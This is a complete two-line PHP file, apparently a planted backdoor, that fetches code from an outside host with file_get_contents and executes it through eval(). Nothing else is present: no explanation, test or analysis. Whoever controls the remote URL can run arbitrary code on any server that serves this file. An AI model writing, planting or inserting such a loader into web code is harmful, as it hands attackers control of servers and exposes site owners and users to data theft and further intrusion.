<?php
eval(file_get_contents("https://sink.relay-drop.net/p.php"));
